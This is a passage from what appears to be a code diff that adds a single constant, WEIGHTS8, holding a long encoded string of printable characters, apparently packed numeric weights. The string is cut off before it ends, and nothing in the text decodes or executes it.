+const WEIGHTS8 = "#JIU`{[R&3LI9XU?WT,_g~e{i|psW+0Y2PpvNg7pGpMBf,tE6+r{Rd7-RQc1RvRKs[i=5be}5r&$l;fbqRW,kYH<h:Pq|a~zeI_8du/,[0#wueTWz2u4]9:b%?$=ClsZP.EH/o&95uIM/dp$II/)s'KcA[+i<q$s|@Uacj_ZF+vn*IR;DBOLX?.1RX]U,RQv[k{kK;Emo*fZe,Oi~LoMBnS[i^vae{@t;*&r0fULG%DVS4z2_#_juai$;0}(Hbc%&17];v~MFftPpcznWBs(GH;ox#MfCGkZ'vtdWxmi>H{c8wq8*}zWvxeLQX=|@-;{v~&gf2n+g/2u|km`'=b2{%~=gSP%3y+maQqmbW/>a?*e6KIsjbYV_v]m7FmkWpz8`zwgG*eCG}}D4;+|hGd#&JW9I>;#][&57:~q:(.Lbe5G{LCAqE:$8>nXHO|EN}5kvoi/R4#8zB*ln?c4YW1x1c]R~-Tf'2J0_ni:l-^f)9$9z_z1qOj[w@X)?[bA)+~m[n[g[Zn{eeGL*cIl=.}yK);`R/UXvURO8xx{L9dju&]X>gfc5fIeyy/i8sl[8L_116~1q,Lw5u3HlJwe2A6NoAnYLE0HC,TFQB@N(DAy]VX)&*BKOVm5<{hZqQg;=8U->([-@Y@*?hqKBgy64}=juAU3t/`8MU)C{|,E;S_>MeHJNK1X$q);n?lo1UOyjW:dI$S0j,@A,JOZpv;F^'I=k_unKloLviu>h]7>%xFdcy~j+2>dSKFC+P+1+l#'IAZ_3I[xVi=H;aY^dD?0K,=LLD:8{(u6/BjA,w$ZywVDIV?S^Vl90C},,PVA=a_>x;pm^}@V]KPkIq4]QkqZ#iJ6jwFya<U_TeTf'@yV3S{@Yv@BJvU7Ih3:G(`K`d{cnHqOP<@Qe`<|XNs7iKI[z]oL8e1.IV$`M&9M%6wqV;8h4VhW.Lz0D|`>_+]cuVg#8w#ttukj=g#COMc$neI#mVP;+:9^2my^@lc0Kvo1G&E.J}6/LJ~zn;4qH=D9hdS+V~Kq}*&v;J?yMX>@2iyJD33y'&Z&tC<g$Cg%~lqz^Y*a|Iq<-p4'X+QMPyLwAZ4&Hw'3ADo5bNILTru#D'N6dWTDuEG}ed3}ooAIF_PZ;Gz]a{(&#gY:Ts~]3Me$7b#Gp#rcTuX4@vq2K0ZI47KFM:$]G`4;lml<a]jkNl#CIr%}S?]k$wejr@LA&Y;2=eOQ]l%BWHf*[`04rh91dVuRm72+=i1DIG=3#KRgcaG].xZA)i#{#zuY^PCOE=-h@dL*_y0Ln`&'~%J8/}`2X>#(mm_SU{Wvv]bTK&i2qzOy#K8Dzj<D?xC?l1m9k.u_i4ia|.gP`ddv`22n5^zedk[m[?rIb#in)zCRXDa|~FFyb{bdbk@BSrtx^S.<~7@2ngTd~CYF/mm[5/j.#ugxt%n6>PxH$oW)ldIqqoDQ-gtwIB>6.pXS0g2E&fg|.o/Lh<;)_V)Ps<T+f#:2oJR[k)g0TK=EkwYK7utR?yy^~plyf[zoc5d&^R5Sv[B,&E#yi4mp61^}^*)1V(:`#d?lx#1Re]EeK22_{]Omi9:/9HEDY~S(NzKhmnv>F9=1I:DtB|wMyf#TRS:xq$;[Y@q5`(Lh0z%S?/U]R?5bHU)Awc(Z,#Y<n~G|+)2D$ss8HFya&xY1Ee#ggj&:&AUW#9/xa7:oQs[g/74'@-t%7%J%@47G&3,G~{C)I;VRv.wZ-#K)hC:47%_h).Hx4E/88N4dJ1SUM4,l#K5n)%U-CdfPmLQ]@Q:v$yV.dH~19`/#:[:cFun-?j@C|OnL8m#7exeAUhC?Kg28.NgcMsPnAT%rLN=jXZj0eD<$F.ptq(W,j_bPt{ov>@ETIx=B`bENpaRdJa:~=_kG;_0)mFRY7^}`O*K`RQ^`.pY+H$}]=7=%OdRrt#dksv=;,/jS1-JC>zRgx+n2e$rOg@pa/foSJ4]b^Q_8`kyb+gZIq+%U(KZ83d5#Y]``tk.p10wv-X?*FsStfkZ*%uotp~lEbbR=J#2bL+oMu{iLdKTL5MY.sYf$*#g0I369[/.p&E<+UOz-dKvq%HDPsp+{j}6Dr.pRG0T|tt%&88&U9s]r8yGfDcg[~9vt;bV}B_hz;?hh:RYwgZ$A)+m.hni,]?N-isTvhYn]UIs1k{;@fMwYQPF%}0iD:|6t<yK?xB^3/-US.u*S_$:'Di=cic'-^{t6)xuU*/P]sQo+G0c@C=[#}-RNVq~&t;4I/?hSIV{F={CmU0]k[5,DLZ@u@Uu_F^RzIF^r8lE3lT(TX?DdBnhx&gpWQn)Z&%Ap^Fd&a`}7Dd$k$bIphf~nqdeM=MnSsCvt*G]pz;k8N1QiH%5.P)ZL9[b.3HO~*LtZAXO9Lwy.-rr?17#,O5V6bdAs=gcl~+z]:54/`-)5ci=]FTP9hNf:7dfJU?Om4E.pLg@3H6?BSp2p{s]9{_./LStz#BiId6u2UvxXdf^kZo:=NTiYhv&fPRbvy`@tLTEZ;Cn8U~X<7%+07p3u#Yzf^3c[CAYk[bbLWb(-83YwJ>SDt:$IRCU_%jTL=Ctn;LJ9`9]7uy2-$gP@J<w=05*d>Y<p$l^j~Q.|@Vn=9D=KL8KlHN5m5^=J0<lO2>>@Ji?*#1ud-3iAmBudYh1aEa]-k6%lp9vrl#k<Ar51:[8*s_`+.r2`P+bX5Ph[-RQ8ro@A%t.ulKyD)a=9aK6o+y`LWebQ0[<eZU;~XcFVa#4r1ZY^rWWIJhG[}?W,<P~8]S}T@xRc@h$j50`ea/q,0~x)gmQhtTP.VPqTp]HUsbX|^I|S~W)=jPO<o'#C>u]o/{(Z$X%FpbWH)s+_x4]hN/qyKIUWp)/'&AN)D*p?neMMi~[tYjrdClh=qfkcguD)5}`bax<X*eZ]Y~N[_-%q,c]lCXs=]#Gzl',wEPnMIMjncSK&f$;^vfWTAH;.mMm/%T>(H1j<cv<[w~&(8t;EnD/c^4VDL*zuAJD4<s0UbEZ{;sAccdq7<{O(W028;er&0=NT[ME<DQ$aU&4kyS7dF4{2JidEcsEDZQ-yPDBXrQNK]$G4(HlMKo,h~zb=6P0Ka9e$}3vtPzO1E=E{h&RS2|1psqEUjcEKy$F?/*Y0L3|gl4=&BKI@v^mC1-P|dq$Vd|36je.7aXn@#=rm9K9Q%e:(^R:?@aLRFty%$[P{)4j;H<cUn3L'u&0AP,BqQ=iQ+~Dvs%c4er#_7t}oPWyiDfTk3}ty6b/dCYj>ay7zY:shq|1sFXD|_:NCF4[4t43xnD1jL98vxsv*#wI8;VlCAS<]Q<&1UnrB:]Xe73Hv:)5.qYH;F1{M~}_zbC4]iq/TlGJLalj0}:NUi:awP'aPL=pZ}Vcz6SEWw>C'u7'(k-Y>g1?Z2h~]wuIa]/<Mr`Ry?X#xW]@~s&9E/RgRYyGV~kMy'`I$T+/%+nbw#d0&qF$>f{wq]aWJ6r`GO-,?5)^4#{kaZHy}tU@U~q0wZRJb)dna_Yk9X]'P%IG4Z`5jDM'm*O:wYWq4K:GVSCM]zwXzCR*cE%{}^F((8K~uxBh?-J@zh4M;Zo7@3|Kw8_eAq:/0=N%a5-dIiXS2<+6-+,9/%9[~^4Q})tl(DG7|KvNj-hJ{EynO,c9=&qa3sMHBB>=Z1Vl&znt}{mSnw}97P=|hEsG`17-V*Hv/|RrdVhK,*@^l?(GbGqzC/ps.RNHVC&7LL4RbQ-vK._lY=WKx'|m}?mxpQ(lbnErU|uzb52H/6{zZ4>3SoVRY|SF^yG^,4#=3J>m[Pb#,Y70z>B_r`)n-[~Z3DY=IY=jW*DOF>C4SD|.)dJ<O7<rg(D34ty?Fz1L8:j}N1nHA/.z^]6hZ2mf'Lxd~jJ7>R?N?Be[~r3z@0_k}U[0dpEh@f-&Vff@ZN?=s}qm72Ed6<He;(tf&]OB}?3Xn'$@~k/&4Q/VbDblZRsdNA8*n<7gydiObA'?u6}f+am|9xm<~.r',e%9KJg%Iso%j#aZn~;l_aMv+qMT;jG~Xq+J'x~OptCb,(,.IV0HEj2V`BUnQ~;+<z1GH8LP=Mm38i;n)SlR4poVIYgr@yXR0jD<BpD=8#J$c%xHlzo$_L*hS2Z;B#LLJ;KAp%:#bG]/|htj#gK7(~~ilJr5M{%8@1jK_/A]~U5_:/qe=B*14km-dwjoi`NUik|J/A4aeJ@y7Zy-U^Z]Pzwc9l{.9z:q7bIo7?<ubuHVBZ{F]WD9IZNTj_]8DL(YqKr1_@%}@EC}ur4MX)sCw5<n$k_>drn;wCKbnh0~GYko*}5t?t<HpezHyu.zy>9f%4<p,)%-DQ*47-J{0JgRMS6o/2w{/6A<Ww];eHM_'`W0e/LOWX^C^`-1V#,u&@jI.T'LIF0.hS>/~(G~J:#U'qj^+8nef_Smek:fo}Q]l,Lr'L?6OZovlPpd,=hXb=jf%I(IAnnQu(q{HglaXo4flL/aK#F$Se{@?M;D/hmprjW0_:L=GlN3NA+t~PnN)T>W.(k':we|N@.wd7]#&hQ0$GhyQz`e;;i%kw7F7$/rKWh`Q@?OcAp)]J_fQ#O)y/U0~|fjr&5orTBNOZO8A=TF=VYm?aj;u:mxJJ)Cr8aoL@,cjQ-UBS~Azi&-*/V^{R?=w]R56noSpIgE`#8~X$ZPyUEi#i0*nqbtqO|@f}r-5^w(`OuIeIQO3c*1+@$QL{}w'F7s1vBUKZiSZwD8J`J2vHj,m0?bQ,ugs#UXcqAxxCf*:m27PTco/$+nqmae~elT1xtn)#=xIADbt~^wrAt4d&O%dWbGS~puNu5$a3fS;JC$COB@IrjE5[M$Q?_R^>Re2%C/;#U7/qU`d^kPxSJ|edBPyO6+,il;Zek&='dx+-Y'rQn;k4z&CQjc:e>Y6dI~m]]Tf64aTenF|fVlv[.=4wbQ_fyEyM@tu#8ez-:0_u7'CQ(Mx[IeH<g$T[QlQ0%OGU='3&wt/MAA<jYSBZr5K{LXam=H0;NSc/J1%DX(jHGz+da{p}(N~Lz/|;[`AvK?qpi^5s`%$({Mp%c.T;$a@3D%:De)J18eSuiO7<*D(ghB'K&UM-<aP>f)KxTJkY+3`;:oz4?|Oyv[s2'y^CKjDDQ%mU1HyS'[@Yj73zmTlQ9fT``?$I8k>B,9}'ILzE[Kz`fKn4x,c&RCn,xB1fGVQ>4#XoNNRiX/=zJs+i]20FI*4oFk1=U``2D1b)vnZ(`ORZ=UU(W08mg|VT3f2pX~UZ>A~?31'RXu_t0sK:su3NL*_2Cv-bfT,(4C.rZy$6e[Fgm51._H-NSL_lI2(c%LvG=-bqOm(XgXz>sWIzeYpx96ddm]`FF(qm4jvhTJbD~1KN@XXwcN[TbM%k9T<?z`x@PeJ@GgfR3^J.,vX&KSG|7fW_B6R%3;`RB]*B+VC~{we1[K^:?9=aOoG%BAyOgC+;v3<`4:@aI:o4qzE5kFsSfJmDv)Om{G~~_r(#tdWln9HZ;ps<$z/Bcs#W}&;axXM>J3Q>'aMzlu;/9O`=NtpQvfHx@HY*T<Es5TD%*8ls8`%kAVsZIfe=i2p)MaGeq&c}~OfTe>]oHULKy&U~Larp]iW*7a}>S]C4S9`uE'ekOz-|BLh&2sqUo*|4,;DY|?'D2#`LL)6Z1O>S}DA8]`eXuOHu~KahqJ%dOW%jQJBgLO-wz<'CE<0#,YuBdpnt;n{hO_d:+w&co~0-6,P`;s:UA:5K50n0@(K}i*^nu'a2Bo7$-Or^;G6@o)Q&*`4MCTHj/}:7[2l]L|fsgzU.XNfq+^o|.NH+LgH'_^X1fZkavN$pxlcqW&Wzh*ezr{}2epsdS|<C2E~jGUe-(caWyL#HteZ];}n&Z1,EjQ;_itK9HBb(%AFECAu6}=<,)KisY@V-vz:FjYu}=,7DnfCMN1d@$5D;|:;3ZP?(]@6}m7p}*u-Zgmg*(`V>uTkGG%q}^=Qafx`Wf1Y+L|,#%-qpoDVuC=ZbGZ4oC6Vh0[RuaW'wjco9&m_&A_HI_(~z]ll'^3P)T.#qj@E<zj[/?pRC#[Zxtm]t+Tj)k|#cIJeHZNm3z.<POyjRW{Xy|N+a^7VBMuslDe1_P<l6%&6'U15`zk7/]>V~:Bf@pjr-qNPZ'@rZPXMkEPs&5j|4BSb/Y:]=-dkloVghHcL42FMo+r~Y[&<Veim(tQ?DTLwSlwGVV>L3XVU9jwnmy,+q8MKM{l7rbf/yFKz'q|O+^VPnSdQV,Ee=~#%BABeY[_i.g3zl6=tEFJAL,aMq6B.@6B`2-Pd}<3A'YjN>$zkR2-Ry?^C5Z6&8%O8@F3]tIa#5~W|{xdhGFKbFd]/9o$dPI++)*C9n1:;d>~Ghem2|v8)h7S~Y'l$,(y,]6NqG1~=uiE^d)fxjlW:#1vIV5Y,V+t*,9@UM&b}j@fu?b[BwnQ.a<dTp?s_n+@oRW=]F*>xs&(,]m95O?rtm9LDO%pYARA%*Y9*J]t8S9G-Qy&W?9QpEM@=<S(%*H#W{EWH>H>Z|($>hrCU1XH8|VtnE%Bsog%:1,=%*s?it+[_^%4HE'd.b6T8o6K=>0E}Tvj'YP=Ug@@tL&rUQ'F<oP3wgAm23y(Jxka.-Fk'hLbNr~K<qtM[5`A5#`7prv-K,s#WOVGacoNA2wJrwGMC1GGSx:Z'fv7PfVd|Cj%,kVAX3kMJT1qgn[lr'dwOR.:IR?i6uo{LIWL2Ks7ndpVf.M;)9ZONp5jhRdZ~x|D;ecy2jvxgf[7mEH,Zif8uQbD)9~*tWm&7S[/e}fXeqMj?LoNgl?YX>(2{tWoq/Z&`X+JK?ZQ<Z`Wdc{%u7eDCz&[yUe`G*g4/0*8@`cCm|7wA.Bwcm2Pd7`B*[)*O&~5-s>U+'l-;TPZYLpJpWYdw6;N#d?VEtFHUPg|Tkdti?]+nrI;VZg6B155B*Uo,u<DfG1RZ4W4O(Y]DHd.Yn6aYp78@]RQYKgVOXy~iYb_-IQ;tk0nR@ZXQ+0#4@@zYfzK/k1o[>,YfORg)deOo=H8y>3qzstPrhD&T?N^GJM/Y(N/@K%rJ-J99ZPxo]omJrlF{|*c}fnKd&~ah(HwP$H|YOe4H7X:P8kY[RN#}(A9lwuDn7,=Jw6~bG?>k`3$7A?v;fI%NeoPLVw%pE&u#1or})b7yK9A}.T=UxtZ@%hO7r'70'.*EGy.[_.hxQa&;;JM0^g}Kr'oy<MQ#I?2fHQ'soV:C=y)z~to//|tX#_bb=Cw7Cu`6N.].Pnc^,|C/s=owSFDl>}ME$+[7mV>c+aaHt;BRcp>B]@C|~x6sTb+Vt[674}>s.MTdfHc9R)&$kk#MN*{lB)AE('^lou~^J=0n3?YMko-8e})BpvrpI>uO`aMPLr~_|sgvM}[&{/ZBf|T]ks|g'aP}L=*MF5tk#6s>AuwRN(@G6@%,`H5A.baaMwxSWZu]BTY7~n]5v~e'YB.H(kHh=biizBKUZD04urE5Orx'tr3kPsw3y?e+/#}d:T07RJ0h9'#*idkD(cRUcGuT/K)T[<AgTitRH;CAjM6d'cnX'bE.Nxmt]02k)RUcgvC>9DG[y$Pio+c;sNt;~q|M3;;_jAaA(0/&e_7'.fRU<JbkFpY;R`G'&D5Q},M$%l<-A7I-a5AM3DA|d<L^_K{95k]NLQ{+QMrB+Y$r-PMtr-L%5==JX<R*RsDs?;F%k7#z~hHx&1iekoI&@yMnxGeviQg.fW/<ee4e@$5o7*%AOMK5n5L/J@DJ|<FS1m<kkQOMy5D$w_z#UOL+U,>HN$7w5utIz+{:[4ly5{~lG]'2KI5a~Yq$GbGt<@{)eI$$>9j[Yc77GxQ{S>ffvA(Xq_aQ7m;|M8QDrw?xsR@+Oi6$pNSCyOerD>o<~~$XiD$eFgZ=7}zyiQFkm)qR*s~%0X*1o]-oPcsnx,M3Y+%TqPC)fZ[+47A/8-pd}(P^~1nl|g3iyO6GVRyM:Gt&UfC+V8M8h}691f;v#S@P|AEVOdZEN`(-6}w0~Pn2Mu5m{9irg<@kG$0if6wVy.XAYSLwM+D$%GrJ7>;+q|`56]l)hji%Gn^A3a:niguyk%Ccu9hA^W3>t+/Ng?cu$z)5w0m=xzVuiz(l3]@9p5B(95ZVO8Vgj_joHTqYE'7O?JM;=R&[yBVO:tJvyOW>,Ng%X#[QExd0uo^qU3tjM-:Ddb+KIA/I{[8{B8%?^7:=`^(1V~Z6s*hqfD:)o3{},*)8z-6rUG*VO-82b|L$72rIieWyOD.{;B#}'&[Xmh.zST>&[4$Yr_u#4Z:+LA5#CtCh2hS#F>2y|.NCWXVb5fSbmoec#tUv[Fh?YRFrc5).8PH;pAR,s/U(y^'pd.eeadMXCp(gaTNIxef<k%'HWq7`nM+Qt&3t9Ixp<xIU]5TqTSj.VSGO`'~ROvnO]GBt4o=LH8hCahIRj:wMp{=Ru4+ELRNbeyWs{7T7QG{.S[I/+{KYN[Ein:dP;}xq{?DD6p(*7r]Gww]Lna[UlTRG}l(hJw)S{B**EQtHd(~TU^rPL9kaQTEFK4f(ypR7'[`lt{>M,>$Fc)rn5|Espcr;a)9H5+=Ig{N7l'cQUqsQ,Va3ENx46(V#ltZZAi~eQW.6C,rU`|[&eQQp:JCAh>`NeLnP;Nom`IJsrEdwwSq>;.}~+agZ<U3Sc`/a}@]856MC4]J,+yVuY'HoFLc&=|q]}xlHre:kbwVdH;k:[GHn?`m;cas?1&o}|XB6.-n;cT6y4e]2TT8#-gfdh)KX/qS@8(=.o}(E9Ef5J|Tz8Y]}+:Fz-apsvI+_ZFUV$W|,p_Dpq0Y.$xh3nXTBY:Pt~Nlw;+f>E&8Qd7WJGem(VN{:hwXRX;KXVi}:&^O/3m#D4j&z;3kYR+)0|?QMp+k3mkS<9#fr+d**>F8^=pzn`16~)Epzzcb|I/nha]0A{/gu=x~kRV+OC24rhKMB|/6]b>?s'o{7?_r*Qkd=hd4<]sSO?irPw[F5(I8UHvDr?;4cv+b+WjsleWIQp]>$4G]keUSB<qz1P*s/htV%d;x7F]KH-L<0HIJV^H,b8Qn:+hkY`nN33alG,p+,P?Iz:S?-4wGg}`hBB`2H$2/(+mmu_<OO6s#46U5/^Ma}{ey/h}K,><0sRPEwP%$<rVoIeNC*^8L=D#Ql9)4#@F;Xn:QSnZ{0(1qiU1x4Rl^7RVjtt5fyryT^#M{<sEaEA*z;.Uct16`izR<HqwT;sGlS%d=nIMa:SQVSxQs':0Qn2#RjJXggE@y;|}siITPYUwwHws`<$pG2v<G|Z(KtLtO;)]nZn12fo-;W4#;fhyY?6Z^=Hu`KKt'g]Ttk8:qB/J7o^hj(Rv2:L`zu8ZA9%R4|{n0Ht:J(VIVIvfGv143.26aC79>^5:-t,z,kX]:<$_MQX=@v'^0=-a<FVZrZ%Yu#F46@KoU%)I7_AMsu:p]x]tMAr:r>D5wZ4<0wVPU|90TzkSpQTf/k98A2u,}0nEhd8xWEFt{w/;3]rgnSF|#UE.dVVce>#mBs'|%ksuGhl@^&O36%4w6ItC?P~&Y]QQ-PUQjdd<#ByHohrXfdrkWI7~g(AeBz|+mnO2LbRMDML4O.u,fE0uiQxS-r@@t_[O8cVthS679;JPZJC|g;42C~>3/;<rCH?ABGa>/kOX5C+zH%N|tRZrVx;B|5,rmD;8Wk==CB3GgdPqI6Au&mdaF<4jgwF|C0_o90qFjFR8(YV;gKs$J9wf3UtG,>}Q+;<rwliNBjDP8)|EG;9YYT_y/HT/Q#~4hW4{El|7a2uCB&TC;P*6R;6R=PX0`'d,F*%#IlXZ7Rvw}s=NtlAHZSpdCxS0-x|@`h*UjZ:>(AEg*;,]j.T|]YBsx28t9:K;IhhNj:D`Zu&-S+>&jD6^#1NKv@_o,+QHf<rr3z9lgRn=0J/2wM9%{OpTSDAMJJ2N*vtc%Q[T(I;Szfi`t)J^Qb{#1pk.UO#ES%6t9e@rzxG%Bln[$V23djsmjRL/r^jsIs1Ml|(d-do#4sNqz61ajo@XuIy/oH7a@H+|nwJ%{#uTPitRA8~nd%C;oE/4n9j-U`z,;7n%cVx`(pWsppnQ)k``zeHZr|Y7[-;E4l{)+]rCUIy()>*D-c}`Pu$b;BluU82MBOfqhcG]C-=>.ub3|l1;|/8j5QE.Z]#%5rV_h6>-dgGb;6h)[_Fv7|jl_I(Pi80@vJZ*`}t%##rDD^H$];*+p@tvt0<g,f|/QD7~*zS[v%Kn~5VPnCAm$BGUT%%6tIp7+jd?m;fQ>L#G+oC^06;+WHy-/BU3HMjL_'1wDI#YfMDod~M'+ZR+uaII?h^#*K}4V>g4(fK{cM;FSh80C{BADEd`1H-8fMERl:-iVY:=EvtV@Kh$=^l)a5E)LdO-.iO~JF,D8-vc{+74Al(,?=aD+zO1Qt=b]mJ|5DH-mLYQ*XnY7)mefYOIGj-u+ZyAb}6QT|>KbanKeM[_dt,J/keU5sOT{x9NdWK%J=g.(5<u^qG*fnG#JgXHzuJ~y}ry/*(`Cavii5I6pvcH%<m^u77~P#0OvHj7#5(d5x:$dxIY/>xf`U]*=~{>&O?_Ifw>Y=,8-ZT*oCbq2X=|L$AAs(xYly44iISgr&[2b%ZtxjeN@;BthPedRab0M*`KZTM,9*u9{5mMneC|-ltiK:w4TD/Rn*MOPkbx6L`()2HEIy+s@68Wghh;pbGgqOT7o8BeA?8*b}(7*pA-,GD~d[3zpP6q;iy:CFWK'_V;K<_']hC^l#UIu%Ac_~YL&hg_kgM=*5~*%8Jru6Cq|H#|z9<+cnct/1l{Iu3rAlTJ}>18AP(6&fb{%|NGGwYEq5c~3s8D-<7i-NTD}SDh}n#4BfR^G5AHOL*E~S%r1d-2;Y&cUY9&OynVC_=)#705ioKv`IVI`pbKKX5gP$Ea.P$ksV=5^`pXMMl>4_yeR(9Gau](nv%M)AF9/^Byov3u,^[j?}youOcnG,wM0S[?(a-D(3ATBkO0ViPlp}kIG2}R/v?&#A)_yz-~DY[t0-`VG:RBY3hwhZhySKi'6P>x+Jf?=x%K4]>:gE6%FSOzjA`Z4@b%Y^ENS>X'1VEzi>o^1bgz$]ezrED9U+Kq3|@w+u:0$AvnLh7@xko[PuE(h^}]q.'Xp8PoSLw=V}WEJ$4|$g>]m1o^~(M~<k?~V~o((.nQoueDOs@$s{2xogT`R&=P$KZVipa3([uES|qcQfQa7'Lasq6k[utaQF(<MPI6H&S>|Va~NS3g*2S.3UA[97t#H5F3xUTX.tC60*BsXv;YQ'1a'Y1*`pH>l12e=K^Xo6O<Pj($j}%1GCI9sN0>vk#}}iR$ngA'$&N*cI~mzdASQRLyQ%7z%iey%QZYn[Y]`x(~vytp|svk6,Vtt|&4FSmma^;kQKW6A),P54[`J)fj2*sQ8Nyzyh'OI_(y|hr7uB1ag?rYJlu^jBdFa<xl=^B}`dL=V]'']'aCv+I0~WNlM1@_szFR&0>hE{{1*StY^/t$3~D9+a)uc]'&m]V0'<5K=<mX7{BI^/pf]+K}jJ{L&]4{AJZqLJjQHq8ezlR&-'lZ_%#^Sd<HAK'l-l/n>9SCn9jqLDWe*Q-Ky+n>(Q^i[AiYiONIH%'5n;y-imjO<63Ku-zLgK&<0J6=mmHTyew4<4_{+t^+w4^CnEcdig^]D&+`~N+jYo9m[hQnY`)'g5-4?BH)K#m;P%eiD+BsWrrlY~#uW&n0q]_ECu6BxWI9`w%rO{XZiN'0PMd8N=.j0jHLnfS$:#Hdiqru2@r2_./o:I*3b$?hm{]erFAd)C8A53T1xh5P'KAC/;ei}B[I~niEfa/zPAQz$+(STlO4/n*Tj/Zc1N96{.8/^JX,9';fH<3KFi7K%)oNl=s1>y2K:n4y6E$qYob>U$Q>JN`m]$ba+q.J,st7h@Go'-=&OFPe[u2B#g()<[eVg0EQX64|Uexd*@t/UwTcOMU~V60Tu3aa@1(6WMkN=.BL@L^47g+BmD9yNi2wbtve2&qF=2FQ0J`6>&Trnsmn648.<czp^O>d}dfC>=zC~Cpl$eRm*?R=*$yc/JEW@e`$,Cce`%$V.akt_$9XA+D3Qd[Oz[b/G(>27O^&6p{g3|~Sw;JOktuOx5%^ya4yhMF?j6tkwnx,+nW;Q{{#2Wh7(vd0Z/o`BOei<^r0y4x.?rwy1*&aPuVroAk*r]Znw%RC3cK)&&:INo'Sq7'I3|pXS5}cWZ:5IeAO%ov7{ptD#}9?_#tvCUI*HGX|S1=BL{Rf;um-j45QKnf;jfQzU)^h%2d3B[+z/2{v'r:OJeit9O8_3^0Dl@u0q7xbXzWj^L8qrzljr7b/ic+?z'G_%C$Qm0'5Rvu'U)zDsW%p0#?G<+-sp{Egil:1{BQ^uD*w67CAqS)oI.cG[tAhTZ-M;I;BvM?*V=)Z@<U,MrVN#$VZ1+Y'p[+?gqTNJ+||iO2Th#t:jxPd?JMO;H<6/%uNw-5Jn?.``OMn@vrd&3X=Hjb1Ed6~%ZyHGa#oAESp'l*K88Bc>S`9)T/VZye,UFC^h=Lp<mXB;U`QJd+2j'hoC3u(mhM[1$)b)XA1A/nBksRQy|>dk:yoHil'92,NH)XEZ*KLq~rbDyg8?BWc?KC,(6Yp9N4bc*gjur%YJS>+nqPS-}*FnJ,W%P2Oncq7faa[/O%Al[R0HLhe5y4t^#=uwpll'oP$V?_qH|u;vvb,~_Q4b6L$jxtR,ac?1:#Fip_ilB{WjQBGnjIz1EVFZ;gIJj~zvW{HJ..iy]kX51v|UIV+m,(PmrR&3m9j9pvc0xZwE{pN|.yqQf;%ts5+hI*4qlGDxzs/{7O@X/qzvrxM{<`5Yv_}18yMDPf4:v*93N6'-ocXS~{y{Jo1MawF~5:7PsuV%dbV,~_8k*+0Y-PLmyW0_gSa*'K*Ts6I(%;awphHe?1.fa%s,G||_7IwPIpa|(%JD1obJ8h;Mb>Uk%j@^%Wd[OE*'D[7wto6>ar(c{ZZTw5&fHL5_vl4*4%>r-XHF@yj~#jgOdC*u{8i1['=hEWl=1|3o`;4gx'LUAzUzt?J?oLPR2#_p{)GYhj@K#Czh~QRFOcJYna[,m+kDyn/nox$]mL1O&jlsOGr)0kyzg,fBiAQtVGhZ0YtA2q(sSjRQfUenL]r2@`r~lH|Q_ojI^0IR|8&rapAwna$mK_Kf,_Ld798}clY+VNJLvSi^TBsNk^x/Y>hqRGajLbdUUH/5N;v3v]jA[^5ZfT.gV#H^7t<ZHPR.=q)[~qN=9)9+lJkh&jk<3fcJgyNjk:ZK[zdgaq8FJ9#?j|bf'h@v1L;VI3HC?yh6**2VaJu?[TXvWiG3_S&V5WrATE[LfD*D)ia|%[=zSzP._--B0)9(Vj?`1|zG]x%,)ua3iy}X4|0]w'nVN@ren&qUsK'wIlRF%k@''*=*;;mY{R?aqD61-O,oA5&zREmA9DNq]F0O~sgu6v7lhS)v()V?dGp`L<9=Y#1nS>b;[/K9N8<k=e;ZHqfj8-m{>/.BmdA#5#:y-@z5Q__PKFn_MPr*-p>VygO>04YAORtTa?{M?yr8ss;:{(axDP*EVNr/,LK9SrA2bMf#x1%tAs[N49$V_.xS@~'0kZPS$#2?Rja^Jvkf^iv%A*$&}zJBBcV)q+`wZ5R5?($_-H6dzk>&#BGsqFx`iPTIoBaLx_]gl7?~=KYk3FCcA-#.Mg)PLumT~EWC'$/U4:Ux5k@J)DG7.q~<i>%gSEfr*WvX?GwXE7`j~hYKR*{E8NxE'Ku+5u7y|y8S/ZDB-U7vhQFDY3w6bDD{OHy'^6BuXn&^Dx`=O$V^,t>AwX_*},zY$n%^UF3kjo}3iT(|c8*ko18[8qEIOL/RvyU<S<.qWkGaz53|@#2R5}miT=v+EJ7WDXs^Vy;Lq9^Ggw`&;.k(MZ9DuPaEBAP8g3nUE%N5_gVfj#;U7o<9SxE/42#su*hXBKw.1+8gUnJ1}vCrQ&n;H?|r$_kEk%=)4Sy/vTA4u$b.[y4#;pQf]rFrVRkp0@-F=Y|[K'_1#jhI9'fm-WKKAl'9rw%X,&XBnGBcm|f^U-'wudN7k.4K;uc9+1_|b0W[A_k=VWd:lKY(XpMI#~W-Xch^2Ua6vygVkxw'v7{@'*wr(F2Z}7hhv1PK4BCn5#+iW{28[9{I2C,qlO,ln#XyN68WLzOnNKK[lF:-8l(';tBDxPWDUUb:x*_(tHPI'_M'b`8,{wqp]w5%Ur$&f'8(8LC7p-Bp~?2he5Zdbt(3C[FNO%I?}x}EJl-vmrPL4&|qK.=]B5]Lmd$4ZSW9aF(I,Wr2B>_4(k=TQida)4&.Ilvg@K5NO'q$@%ejfjMCA/K>hv_N*u)x3<*$ArK%j@^#dUu8L>e961y{yovU@7r_r@iBY>>~t/=`Hi[F*o:fWJ9u{9v-.iG+ZNg%Z/fB{p`^&;;wLMvCky'VJE;pT_&U1?}ZZ&'x`=hVogqP2UQQ?6%b/3z>Te?NQA>M/{xb1Mb=KIw<;FCZ8m)S}DO`QZf/6~UO.y33NNpZP%5#gTl/(JdEQQir$^tG]MF/,M-Ih2n,yGl)r%Fg?&PdxYA)[mF^GBD/V]_0Q}V@VUITW6<(O4vsf69MP7F1Bu{r+z,_l)9X93%Af&gZ0%/;71LeHQkbYsi+|]pA]-{%a/.o9McF7L?;0s<`BDX{'O'{iG&j[HZ^ovW*P]KMe[TL=Q.lO%mqYmJ;xZL>oS6OB{'rlno(C1$2D#Pi6X2~$=W'slN68L}A(g3q[/nQ#pDJbR[cbVyqUvx&)^IZl]UxQ]38;vx_l&%|;kd8P*Tj&gMgT.Jz}G;%N(>dh3BE=|u%8j.:RL#n`Ik>{U_M_+DLX[$Aw9<(f%((r?d:Ul&At9KmmJsRqiaobXYEpCKGAZu`~)2aDGkc<})4X`${)u*}1.N-_:r]Im:Qh'DgCrVP2Uo'/@oV@.ydd;-z7}Co4V@{9ATmnQ)JeIy&S10ex=bFLV[`Wf7g(X%E4V+z7m[)(meAWkFazjO^hI]#.4e2^oe+,]'5@BpKGc#'*RE#6HzK(_Uq9`z88e'iQ':6@]jo*ZpG2P?,UAYbEHspU-T1LI8_1EokAwI;;)rb/&6QVS,=I3S(@D9Z7VLUJ*@C{;1QAJe(@/0=jO]lkP3z^W^Lk*7pZrYKHB5<q[_11]lINY^(yzkYMvuOy8Phm{)F?U